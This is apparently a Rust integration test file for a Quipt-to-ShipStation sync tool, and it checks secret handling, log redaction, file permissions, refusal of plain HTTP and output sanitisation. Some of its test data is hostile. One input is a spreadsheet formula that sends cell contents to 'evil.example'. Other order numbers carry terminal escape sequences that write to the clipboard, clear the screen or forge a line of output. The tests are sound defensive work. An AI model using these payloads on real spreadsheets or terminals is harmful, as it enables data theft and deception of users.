//! Issue 16 through the real binary: a secret typed without echo and never shown again in any form,
//! the local commands without a keyring, errors that say each cause once, plain-text logs on a
//! pipe, files readable by their owner only, CSV exports that are whole and formula-free, and text
//! from the servers shown, not obeyed, by the terminal.

use std::io::{Read, Write};
use std::path::Path;
use std::process::{Command, Stdio};

use base64::Engine;
use chrono::Utc;
use connector::credentials::{self, CredentialName, Secret};
use connector::store;
use connector::store::orders::{OrderState, Seen};

use crate::support::{Cli, output, text, without_keyring};

/// Puts back the keyring entries a test replaces, even when it fails.
struct KeyringRestore(Vec<(CredentialName, Option<String>)>);

impl KeyringRestore {
    fn save(names: &[CredentialName]) -> Self {
        Self(
            names
                .iter()
                .map(|name| {
                    let value = credentials::read(*name)
                        .expect("the keyring is readable (the tests run in a D-Bus session)")
                        .map(|s| s.expose_secret().to_string());
                    (*name, value)
                })
                .collect(),
        )
    }
}

impl Drop for KeyringRestore {
    fn drop(&mut self) {
        for (name, value) in &self.0 {
            let _ = match value {
                Some(value) => credentials::store(*name, &Secret::new(value.as_str())),
                None => credentials::delete(*name),
            };
        }
    }
}

/// Runs `cmd` on a new pseudo-terminal, types `typed` once `prompt` is on the screen, and returns
/// the exit code and everything the terminal showed.
fn on_a_terminal(mut cmd: Command, prompt: &str, typed: &str) -> (Option<i32>, String) {
    let pty = nix::pty::openpty(None, None).expect("a pseudo-terminal");
    let slave = std::fs::File::from(pty.slave);
    cmd.stdin(Stdio::from(slave.try_clone().unwrap()))
        .stdout(Stdio::from(slave.try_clone().unwrap()))
        .stderr(Stdio::from(slave));
    let mut child = cmd.spawn().expect("the binary runs");
    // The child's copies are its own now; ours must close for the terminal to hang up at its exit.
    drop(cmd);
    let mut master = std::fs::File::from(pty.master);
    let mut screen = Vec::new();
    let mut typed_yet = false;
    let mut buf = [0u8; 1024];
    loop {
        match master.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => screen.extend_from_slice(&buf[..n]),
            // Linux answers EIO once the other side of the terminal is closed.
            Err(e) if e.raw_os_error() == Some(5) => break,
            Err(e) => panic!("reading the terminal: {e}"),
        }
        if !typed_yet && String::from_utf8_lossy(&screen).contains(prompt) {
            master.write_all(typed.as_bytes()).unwrap();
            master.write_all(b"\n").unwrap();
            typed_yet = true;
        }
    }
    let status = child.wait().unwrap();
    assert!(
        typed_yet,
        "the prompt `{prompt}` was shown: {}",
        String::from_utf8_lossy(&screen)
    );
    (status.code(), String::from_utf8_lossy(&screen).into_owned())
}

#[tokio::test]
async fn a_secret_typed_at_a_terminal_is_not_echoed_and_never_shows_again_in_any_form() {
    let cli = Cli::start(40).await;
    let _restore = KeyringRestore::save(&[
        CredentialName::ShipStationApiKey,
        CredentialName::ShipStationApiSecret,
    ]);

    // Piped, as a script would: the line on standard input is the secret.
    let mut piped = cli.command(&["credentials", "--shipstation-key", "piped-key-0001"]);
    piped
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let piped = tokio::task::spawn_blocking(move || {
        let mut child = piped.spawn().unwrap();
        child
            .stdin
            .take()
            .unwrap()
            .write_all(b"piped-secret-0001\n")
            .unwrap();
        child.wait_with_output().unwrap()
    })
    .await
    .unwrap();
    assert_eq!(piped.status.code(), Some(0), "{}", text(&piped.stderr));
    assert_eq!(
        credentials::read(CredentialName::ShipStationApiSecret)
            .unwrap()
            .map(|s| s.expose_secret().to_string()),
        Some("piped-secret-0001".to_string()),
        "a piped secret reaches the keyring"
    );

    // Typed at a terminal: nothing of it is echoed. Characters that percent-encoding changes.
    let key = format!("typed-key-{}", std::process::id());
    let secret = format!("typ/ed+sec=ret&{}", std::process::id());
    let cmd = cli.command(&["credentials", "--shipstation-key", &key]);
    let (code, screen) = tokio::task::spawn_blocking(move || {
        on_a_terminal(cmd, "ShipStation API secret: ", &secret)
    })
    .await
    .unwrap();
    let secret = format!("typ/ed+sec=ret&{}", std::process::id());
    assert_eq!(code, Some(0), "the credentials are stored: {screen}");
    assert!(
        !screen.contains(&secret) && !screen.contains("typ/ed"),
        "the typed secret is not echoed on the terminal: {screen:?}"
    );
    assert!(screen.contains("stored in the keyring"), "{screen}");
    assert_eq!(
        credentials::read(CredentialName::ShipStationApiSecret)
            .unwrap()
            .map(|s| s.expose_secret().to_string()),
        Some(secret.clone()),
        "the typed secret reaches the keyring whole"
    );

    // A run with every credential from the keyring, none in the environment, that meets them in
    // a log line: a Quipt order whose number holds them — plain, percent-encoded as OAuth signs
    // them, and as ShipStation's Basic authorization — is held and logged.
    let _restore_quipt = KeyringRestore::save(&[
        CredentialName::QuiptAccessToken,
        CredentialName::QuiptAccessTokenSecret,
    ]);
    let token = format!("kr-token-{}", std::process::id());
    let token_secret = format!("kr/sec+ret=&{}", std::process::id());
    cli.sandbox.quipt.add_access_token(&token, &token_secret);
    for (name, value) in [
        (CredentialName::QuiptAccessToken, token.as_str()),
        (
            CredentialName::QuiptAccessTokenSecret,
            token_secret.as_str(),
        ),
        (
            CredentialName::ShipStationApiKey,
            sandbox::demo_data::SHIPSTATION_API_KEY,
        ),
        (
            CredentialName::ShipStationApiSecret,
            sandbox::demo_data::SHIPSTATION_API_SECRET,
        ),
    ] {
        credentials::store(name, &Secret::new(value)).expect("the keyring stores it");
    }
    let encoded = token_secret
        .replace('/', "%2F")
        .replace('+', "%2B")
        .replace('=', "%3D")
        .replace('&', "%26");
    let basic = base64::engine::general_purpose::STANDARD.encode(format!(
        "{}:{}",
        sandbox::demo_data::SHIPSTATION_API_KEY,
        sandbox::demo_data::SHIPSTATION_API_SECRET
    ));
    let forms = [
        token_secret.as_str(),
        encoded.as_str(),
        basic.as_str(),
        token.as_str(),
    ];
    let mut order = cli
        .sandbox
        .quipt
        .orders()
        .into_iter()
        .find(|o| o.order_number == "Q-MAL-NO-SHIPTO")
        .expect("the demo order without a ship-to address");
    order.id = String::new();
    order.order_number = format!("pasted {}", forms.join(" "));
    for line in &mut order.lines {
        line.id = String::new();
    }
    cli.sandbox.quipt.insert_order(order);

    let mut run = cli.command(&["sync"]);
    for var in crate::support::CREDENTIAL_VARS {
        if var != "QUIPT_CONSUMER_KEY" && var != "QUIPT_CONSUMER_SECRET" {
            run.env_remove(var);
        }
    }
    let out = output(run).await;
    let stderr = text(&out.stderr);
    assert_eq!(
        out.status.code(),
        Some(2),
        "the run completes with the keyring's credentials and holds the order: {stderr}"
    );
    let log = todays_log(&cli.data_dir());
    assert!(
        log.contains("order=pasted <redacted> <redacted> <redacted> <redacted>"),
        "the held order is logged with every form redacted:\n{log}"
    );
    for form in forms {
        assert!(!stderr.contains(form), "stderr shows {form}: {stderr}");
        assert!(!log.contains(form), "the log file holds {form}:\n{log}");
    }
}

fn todays_log(data_dir: &Path) -> String {
    let file = data_dir.join("logs").join(format!(
        "quipt-shipstation.{}.log",
        Utc::now().format("%Y-%m-%d")
    ));
    std::fs::read_to_string(&file).unwrap_or_else(|e| panic!("{}: {e}", file.display()))
}

#[tokio::test]
async fn status_history_and_retry_use_the_history_with_no_keyring_and_no_credential() {
    let cli = Cli::start(40).await;
    let sync = cli.run(&["sync"]).await;
    assert_eq!(sync.status.code(), Some(2), "{}", text(&sync.stderr));

    let mut status = cli.command(&["status", "--json"]);
    without_keyring(&mut status, cli.dir.path());
    let status = output(status).await;
    assert_eq!(
        status.status.code(),
        Some(2),
        "status reads the history (amber: held orders), no keyring needed: {}",
        text(&status.stderr)
    );
    let status: serde_json::Value = serde_json::from_slice(&status.stdout).unwrap();
    assert_eq!(status["health"], "warning");

    for args in [
        &["history"][..],
        &["history", "--held", "--csv"],
        &["history", "--order", "Q-MAL-NO-SHIPTO"],
    ] {
        let mut history = cli.command(args);
        without_keyring(&mut history, cli.dir.path());
        let out = output(history).await;
        assert_eq!(
            out.status.code(),
            Some(0),
            "{args:?} needs no credential: {}",
            text(&out.stderr)
        );
        assert!(
            text(&out.stdout).contains("Q-MAL"),
            "{args:?} shows the held orders: {}",
            text(&out.stdout)
        );
    }

    let mut retry = cli.command(&["retry", "Q-MAL-NO-SHIPTO"]);
    without_keyring(&mut retry, cli.dir.path());
    let out = output(retry).await;
    assert!(
        out.status.success() && text(&out.stdout).contains("1 order(s) queued"),
        "retry queues in the history alone, no credential needed: {}{}",
        text(&out.stdout),
        text(&out.stderr)
    );
}

#[tokio::test]
async fn without_a_keyring_a_sync_says_so_with_each_cause_once() {
    let cli = Cli::start(0).await;
    let mut sync = cli.command(&["sync"]);
    let bus = without_keyring(&mut sync, cli.dir.path());
    let out = output(sync).await;
    assert_eq!(out.status.code(), Some(1));
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains("no keyring available") && stderr.contains("gnome-keyring"),
        "the operator is told what is missing and what to install: {stderr}"
    );
    assert_eq!(
        stderr.matches(&bus).count(),
        1,
        "the D-Bus cause is printed once: {stderr}"
    );
}

#[tokio::test]
async fn log_lines_on_a_pipe_and_in_the_file_carry_no_colour_codes() {
    let cli = Cli::start(40).await;
    let mut sync = cli.command(&["sync"]);
    sync.env("QUIPT_SHIPSTATION_LOG", "info");
    let out = output(sync).await;
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains(" WARN ") && stderr.contains(" INFO "),
        "the run's lines reach stderr: {stderr}"
    );
    assert!(
        !stderr.contains('\u{1b}'),
        "no escape codes on a pipe: {stderr:?}"
    );
    assert!(
        !todays_log(&cli.data_dir()).contains('\u{1b}'),
        "no escape codes in the log file"
    );
}

#[cfg(unix)]
#[tokio::test]
async fn the_data_directory_history_logs_and_diagnostics_are_the_owners_alone() {
    use std::os::unix::fs::PermissionsExt;
    let cli = Cli::start(5).await;
    let sync = cli.run(&["sync"]).await;
    assert!(
        matches!(sync.status.code(), Some(0 | 2)),
        "{}",
        text(&sync.stderr)
    );
    let bundle = cli.dir.path().join("support").join("bundle.zip");
    let diagnostics = cli
        .run(&["diagnostics", "--output", bundle.to_str().unwrap()])
        .await;
    assert_eq!(
        diagnostics.status.code(),
        Some(0),
        "{}",
        text(&diagnostics.stderr)
    );

    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    let data = cli.data_dir();
    for dir in [
        data.clone(),
        data.join("logs"),
        bundle.parent().unwrap().to_path_buf(),
    ] {
        assert_eq!(
            mode(&dir),
            0o700,
            "{} is closed to other accounts",
            dir.display()
        );
    }
    let mut files = vec![bundle.clone()];
    for dir in [data.clone(), data.join("logs")] {
        for entry in std::fs::read_dir(&dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_file() {
                files.push(path);
            }
        }
    }
    assert!(
        files.iter().any(|f| f.ends_with("history.sqlite3"))
            && files
                .iter()
                .any(|f| f.extension().is_some_and(|e| e == "log")),
        "the history and a log file exist: {files:?}"
    );
    for file in files {
        assert_eq!(
            mode(&file),
            0o600,
            "{} is readable by its owner only",
            file.display()
        );
    }
}

#[tokio::test]
async fn a_csv_export_holds_every_matching_order_and_no_live_formula() {
    let cli = Cli::start(0).await;
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
    {
        let mut db = store::open(&cli.data_dir().join("history.sqlite3")).unwrap();
        let tx = db.transaction().unwrap();
        let now = Utc::now();
        let reason = connector::Reason::new(
            connector::ReasonCode::NoStoreForChannel,
            "-no store for the channel",
        );
        for n in 0..650 {
            let (id, number) = (format!("q-{n}"), format!("Q-{n:04}"));
            let number = if n == 7 { formula.to_string() } else { number };
            let seen = Seen {
                quipt_id: &id,
                order_number: &number,
                channel: Some("@channel"),
                warehouse_code: Some("98765"),
                quipt_status: 4,
            };
            store::orders::set_state(&tx, &seen, OrderState::Held, Some(&reason), now).unwrap();
        }
        tx.commit().unwrap();
    }
    let out = cli.run(&["history", "--held", "--csv"]).await;
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let csv = text(&out.stdout);
    let lines: Vec<&str> = csv.lines().collect();
    assert_eq!(lines[0], connector::export::CSV_HEADER);
    assert_eq!(
        lines.len() - 1,
        650,
        "every held order is exported, not the first 500"
    );
    let row = lines
        .iter()
        .find(|l| l.contains("HYPERLINK"))
        .expect("the order with the formula is exported");
    assert!(
        row.starts_with("\"'=HYPERLINK("),
        "the formula is written as text: {row}"
    );
    assert!(
        row.contains(",'@channel,") && row.contains(",'-no store for the channel,"),
        "every cell that would start a formula is neutralised: {row}"
    );
    assert!(
        !csv.lines()
            .skip(1)
            .any(|l| l.starts_with(['=', '+', '-', '@'])),
        "no line starts a formula"
    );
}

#[tokio::test]
async fn plain_http_to_another_computer_is_refused_before_any_request_leaves() {
    let cli = Cli::start(1).await;
    // Any request to a remote http:// address would reach this listener: it is the proxy.
    let proxy = std::net::TcpListener::bind("127.0.0.1:0").expect("a local proxy");
    proxy.set_nonblocking(true).expect("nonblocking");
    let proxy_url = format!("http://{}", proxy.local_addr().expect("its address"));
    for (variable, remote) in [
        ("SHIPSTATION_API_URL", "http://ssapi.example.com"),
        ("QUIPT_API_URL", "http://quipt.example.com/api"),
        // The OAuth host: its `/oauth/token` answer carries the access token's secret.
        ("QUIPT_APP_URL", "http://app.quipt.example.com"),
    ] {
        let mut sync = cli.command(&["sync"]);
        sync.env(variable, remote)
            .env("HTTP_PROXY", &proxy_url)
            .env("http_proxy", &proxy_url)
            .env("NO_PROXY", "127.0.0.1,localhost")
            .env("no_proxy", "127.0.0.1,localhost");
        let out = output(sync).await;
        let said = format!("{}{}", text(&out.stdout), text(&out.stderr));
        assert!(
            !out.status.success(),
            "{variable}={remote}: the run is refused: {said}"
        );
        assert!(
            said.contains("https is required") && said.contains(remote.trim_end_matches("/api")),
            "{variable}={remote}: the operator is told https is required for that address: {said}"
        );
        assert!(
            matches!(proxy.accept(), Err(e) if e.kind() == std::io::ErrorKind::WouldBlock),
            "{variable}={remote}: no request left for the plain-http address"
        );
    }
    assert!(
        cli.sandbox.shipstation.all_orders().is_empty(),
        "nothing was pushed"
    );
}

#[tokio::test]
async fn text_from_the_servers_reaches_the_terminal_with_its_control_characters_shown_not_obeyed() {
    let cli = Cli::start(0).await;
    // An order number carrying a clipboard write (OSC 52), a C1 CSI and a screen clear, on an
    // order ShipStation refuses with a message that quotes the number.
    let mut order = cli
        .sandbox
        .quipt
        .new_orders(&sandbox::quipt::NewOrders::default())
        .expect("a well-formed order")
        .remove(0);
    order.id = String::new();
    order.order_number = "Q-ESC-\u{1b}]52;c;aGFja2Vk\u{7}\u{9b}2J\u{1b}[2J".into();
    for line in &mut order.lines {
        line.id = String::new();
    }
    let id = cli.sandbox.quipt.insert_order(order.clone()).id;
    cli.sandbox
        .shipstation
        .fail_orders_matching(Some("Q-ESC-".into()));
    // And one held (no address: a warning names it on stderr) whose number carries a newline and
    // a line of its own.
    order.id = String::new();
    order.order_number = "Q-NL-\u{1b}[2J\nhealth: Ok (all good)".into();
    order.ship_to = None;
    cli.sandbox.quipt.insert_order(order);

    for args in [
        &["sync"][..],
        &["status"],
        &["history"],
        &["history", "--order", &id],
        &["reconcile"],
        &["status", "--json"],
        &["history", "--json"],
        &["history", "--order", &id, "--json"],
    ] {
        let out = cli.run(args).await;
        let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
        assert!(
            stdout.contains("Q-ESC-"),
            "{args:?} lists the order: {stdout}{stderr}"
        );
        for (stream, printed) in [("stdout", &stdout), ("stderr", &stderr)] {
            let controls: Vec<char> = printed
                .chars()
                .filter(|c| c.is_control() && *c != '\n' && *c != '\t')
                .collect();
            assert!(
                controls.is_empty(),
                "{args:?} sends no control character from the servers to the terminal's {stream}, \
                 which would obey it (rewrite the clipboard, clear the screen): {controls:?}"
            );
        }
        if !args.contains(&"--json") {
            assert!(
                stdout.contains("Q-ESC-^[]52;c;aGFja2Vk^G\u{fffd}2J^[[2J"),
                "{args:?} shows the control characters as ^[ and \u{fffd}: {stdout}"
            );
        }
        for (stream, printed) in [("stdout", &stdout), ("stderr", &stderr)] {
            assert!(
                !printed.lines().any(|l| l.starts_with("health: Ok")),
                "{args:?}: a newline in a server's text forges no line of the {stream}: {printed}"
            );
        }
    }
}
